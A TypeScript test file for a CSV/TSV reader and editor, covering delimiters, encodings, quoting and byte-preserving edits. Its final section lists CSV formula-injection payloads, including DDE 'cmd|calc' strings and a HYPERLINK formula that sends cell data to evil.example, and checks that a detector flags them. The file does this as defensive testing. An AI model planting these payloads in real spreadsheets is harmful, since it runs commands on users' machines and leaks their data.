import { describe, expect, test } from "vitest";
import { bytesOf, changesOf, compared, edited, fixture, refusalOf, textOf, texts } from "../../test/sheet-files.ts";
import { runsAsFormula } from "./csv/injection.ts";
import { readCsv } from "./csv/read.ts";
import { create, describe as describeSheets, edit } from "./index.ts";

const rowsOf = (bytes: Uint8Array, path = "a.csv"): string[][] =>
  (readCsv(bytes, path).sheets[0]?.rows ?? []).map(({ cells }) => cells.map(({ text }) => text));
const set = (cell: string, value: unknown) => ({ edit: "set-cells", cells: [{ cell, value }] });

describe("S3 a text file of rows as LibreOffice writes it", () => {
  test.each(texts)("%s opens, and is the same as itself", (name) => {
    const bytes = fixture(name);
    expect(compared(bytes, bytes, name)).toMatchObject([{ change: "same", rows: [] }]);
  });

  test.each(texts)("%s: an edit changes that field, and every other byte stays", (name) => {
    const bytes = fixture(name);
    const after = edited(bytes, [set("A1", "written")], name);
    const changes = changesOf(compared(bytes, after, name)[0]);
    expect(changes).toHaveLength(1);
    expect(changes[0]).toMatch(/written$/);
    // What follows the first field is there again, byte by byte.
    const rest = restAfterFirstField(bytes, name);
    expect(hex(after).endsWith(hex(rest))).toBe(true);
    expect(readCsv(after, name).sheets[0]?.look).toBe(readCsv(bytes, name).sheets[0]?.look);
  });

  test.each([
    ["01-comma.csv", ["Apples", "1.5", "4", "6"]],
    ["02-semicolon.csv", ["Apples", "1.5", "4", "6"]],
    ["03-tab.tsv", ["Apples", "1.5", "4", "6"]],
    ["04-pipe.csv", ["Apples", "1.5", "4", "6"]],
    ["05-all-quoted.csv", ["Apples", "1.5", "4", "6"]],
    ["06-apostrophes.csv", ["two\nlines"]],
    ["07-utf-16.csv", ["りんご", "120"]],
    ["08-windows-1252.csv", ["Ångström", "42"]],
    ["10-cjk.csv", ["りんご", "120"]],
    ["13-german-numbers.csv", ["Cash", "1,234.50 €", "12.5%", "1,234,567.89"]],
    ["14-lines-in-cells.csv", ["two\nlines"]],
    ["21-bom.csv", ["りんご", "120"]],
  ])("%s is read as what it says", (name, second) => {
    expect(rowsOf(fixture(name), name)[1]).toEqual(second);
  });
});

const hex = (side: Uint8Array): string => Buffer.from(side).toString("hex");
const giant = (end: string): Uint8Array => bytesOf(`a,${"x".repeat(3_000_000)}${end}\n`);

function restAfterFirstField(bytes: Uint8Array, name: string): Uint8Array {
  const wide = name.startsWith("07") ? 2 : 1;
  const text = wide === 2 ? Buffer.from(bytes).toString("utf16le") : Buffer.from(bytes).toString("latin1");
  const end = /^\ufeff?(?:ï»¿)?(?:"[^"]*"|'[^']*'|[^,;|\t\n\r]*)/.exec(text)?.[0].length ?? 0;
  return bytes.subarray(end * wide);
}

describe("S3 reading delimited text", () => {
  test.each([
    [
      "quotes, doubled ones and line ends within",
      '"a ""b""","c\r\nd"\r\ne,f\r\n',
      [
        ['a "b"', "c\r\nd"],
        ["e", "f"],
      ],
    ],
    ["rows of different lengths", "a,b,c\nd\ne,f\n", [["a", "b", "c"], ["d"], ["e", "f"]]],
    [
      "carriage returns alone",
      "a,b\rc,d\r",
      [
        ["a", "b"],
        ["c", "d"],
      ],
    ],
    [
      "no line end at the end",
      "a,b\nc,d",
      [
        ["a", "b"],
        ["c", "d"],
      ],
    ],
    [
      "text after a closing quote",
      '"a"b,c\nd,e',
      [
        ["ab", "c"],
        ["d", "e"],
      ],
    ],
    [
      "a quote within a text",
      'a "b",c\nd,e',
      [
        ['a "b"', "c"],
        ["d", "e"],
      ],
    ],
    ["a named delimiter", "sep=;\na;b,c\n", [["sep=", ""].slice(0, 1), ["a", "b,c"]]],
    [
      "commas in texts of a file with semicolons",
      "a;1,5;x\nb;2,5;y\nc;3,5;z\n",
      [
        ["a", "1,5", "x"],
        ["b", "2,5", "y"],
        ["c", "3,5", "z"],
      ],
    ],
    [
      "apostrophes that are no quotes",
      "it's,'tis\na,b\n",
      [
        ["it's", "'tis"],
        ["a", "b"],
      ],
    ],
    ["one column", "alpha\nbeta\n", [["alpha"], ["beta"]]],
    [
      "names that objects have already",
      "__proto__,constructor\ntoString,1\n",
      [
        ["__proto__", "constructor"],
        ["toString", "1"],
      ],
    ],
  ])("%s", (_, text, rows) => {
    expect(rowsOf(bytesOf(text))).toEqual(rows);
  });

  test("a byte that is no UTF-8 is warned of; the rest of a UTF-8 file stays readable", () => {
    const some = Buffer.concat([bytesOf("ä,ö\nü,"), Buffer.from([0xff]), bytesOf("\n")]);
    expect(readCsv(some, "a.csv")).toMatchObject({ warnings: [{ kind: "invalid-utf8", where: "line 2" }] });
    expect(rowsOf(some)[0]).toEqual(["ä", "ö"]);
    expect(refusalOf(() => readCsv(bytesOf("a,b\0\n"), "a.csv"))).toMatch(/no text/);
  });

  test("a quote that nothing closes is warned of, and not edited around", () => {
    const bytes = bytesOf('a,"b\nc,d\n');
    expect(readCsv(bytes, "a.csv").warnings).toMatchObject([{ kind: "unreadable", where: "B1" }]);
    expect(refusalOf(() => edited(bytes, [set("A1", "x")], "a.csv"))).toMatch(/never closed/);
  });

  test("a giant cell is cut, warned of, and still told from another", () => {
    const [sheet] = compared(giant("1"), giant("2"), "a.csv");
    expect(sheet?.changedCells).toBe(1);
    expect(JSON.stringify(sheet).length).toBeLessThan(10_000);
    expect(readCsv(giant(""), "a.csv").warnings).toMatchObject([{ kind: "long-line", where: "B1" }]);
  });
});

describe("S3 editing delimited text", () => {
  test("quotes what needs it, as the file does", () => {
    const bytes = bytesOf('a;b\r\n"c";d\r\n');
    const cells = [
      { cell: "A1", value: "x;y" },
      { cell: "B1", value: 'say "x"' },
      { cell: "A2", value: "plain" },
      { cell: "B2", value: "two\nlines" },
      { cell: "D2", value: 7 },
    ];
    expect(textOf(edited(bytes, [{ edit: "set-cells", cells }], "a.csv"))).toBe(
      '"x;y";"say ""x"""\r\n"plain";"two\nlines";;7\r\n',
    );
  });

  test("rows come and go with the line ends of the file", () => {
    const bytes = bytesOf("a,b\r\nc,d");
    const appended = edited(
      bytes,
      [
        {
          edit: "append-rows",
          rows: [
            ["e", null],
            [true, 1.5],
          ],
        },
      ],
      "a.csv",
    );
    expect(textOf(appended)).toBe("a,b\r\nc,d\r\ne,\r\nTRUE,1.5");
    const inserted = edited(bytes, [{ edit: "insert-rows", before: 2, rows: [["x"]] }], "a.csv");
    expect(textOf(inserted)).toBe("a,b\r\nx\r\nc,d");
    expect(textOf(edited(bytes, [{ edit: "delete-rows", from: 1 }], "a.csv"))).toBe("c,d");
  });

  test("keeps the encoding, and refuses what it cannot write", () => {
    const latin = new Uint8Array(Buffer.from("Größe,b\nä,ü\n", "latin1"));
    const after = edited(latin, [set("B2", "é")], "a.csv");
    expect(Buffer.from(after).toString("latin1")).toBe("Größe,b\nä,é\n");
    expect(refusalOf(() => edited(latin, [set("B2", "漢")], "a.csv"))).toMatch(/no such characters/);
    const utf16 = fixture("07-utf-16.csv");
    expect(rowsOf(edited(utf16, [set("A2", "😀")], "a.csv"))[1]).toEqual(["😀", "120"]);
  });

  test("changes one field of half a million", () => {
    const row = "1,2,3,4,5\n";
    const after = edited(bytesOf(row.repeat(100_000)), [set("C100000", "x")], "a.csv");
    expect(textOf(after) === `${row.repeat(99_999)}1,2,x,4,5\n`).toBe(true);
  });

  test("refuses formulas and sheets, and warns of texts that would run", () => {
    const bytes = bytesOf("a,b\n");
    expect(refusalOf(() => edited(bytes, [set("A1", { formula: "1+1" })], "a.csv"))).toMatch(/not formulas/);
    expect(refusalOf(() => edited(bytes, [{ edit: "add-sheet", name: "x" }], "a.csv"))).toMatch(/one sheet/);
    expect(refusalOf(() => edited(bytes, [set("A500000", 1)], "a.csv"))).toMatch(/too far/);
    expect(edit({ bytes, path: "a.csv", edits: [set("A1", "=1+1")] }).summary.join(" ")).toContain("run as a formula");
  });

  test("fills a file that is new", () => {
    const filled = edited(
      create("new.tsv"),
      [
        {
          edit: "append-rows",
          rows: [
            ["a", "b c"],
            [1, { date: "2026-01-31" }],
          ],
        },
      ],
      "new.tsv",
    );
    expect(textOf(filled)).toBe("a\tb c\n1\t2026-01-31\n");
    expect(describeSheets({ bytes: filled, path: "new.tsv" })).toContain('1: A "a" | B "b c"');
  });
});

describe("S3 cells that a spreadsheet program would run", () => {
  test.each([
    "=1+1",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Error")',
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\ttext",
    "\n=1+1",
    "＝1+1",
    "＋cmd",
    "－cmd()",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u202e=1+1",
    "\u2066\u200d@SUM(1)",
    "\u00ad=A1",
    "-A1",
    "+A1",
    "-1+cmd|x!A",
    "harmless;=cmd|'/c calc'!A0",
    'x\t=HYPERLINK("http://evil.example")',
  ])("%j is flagged", (text) => {
    expect(runsAsFormula(text)).toBe(true);
  });

  test.each([
    "",
    "-5",
    "+49",
    "+49 30 1234567",
    "+49-30-1234567",
    "+1 (555) 010-9999",
    "-5.25",
    "-1,234.50",
    "-1.234,50 €",
    "-$5.00",
    "-€ 5",
    "-12 %",
    "-1.5e-10",
    "+.5",
    "- 7",
    "-5 kg",
    "-40 °C",
    "--",
    "-",
    "+",
    "=",
    "===",
    "-----",
    "a=b",
    "x - y",
    "mail@example.org",
    "1+1",
    "Dear all; -5 is fine",
    "2026-01-31",
    "’=’",
  ])("%j is not", (text) => {
    expect(runsAsFormula(text)).toBe(false);
  });

  test("each cell is named, up to a limit, then they are counted", () => {
    expect(readCsv(bytesOf('a,"=1+1"\n@x,-5\n'), "a.csv").warnings).toMatchObject([
      { kind: "csv-formula", where: "B1" },
      { kind: "csv-formula", where: "A2" },
    ]);
    const many = readCsv(bytesOf("=1+1\n".repeat(500)), "a.csv").warnings;
    expect(many).toHaveLength(51);
    expect(many.at(-1)).toMatchObject({ where: null, message: expect.stringContaining("500") });
  });
});
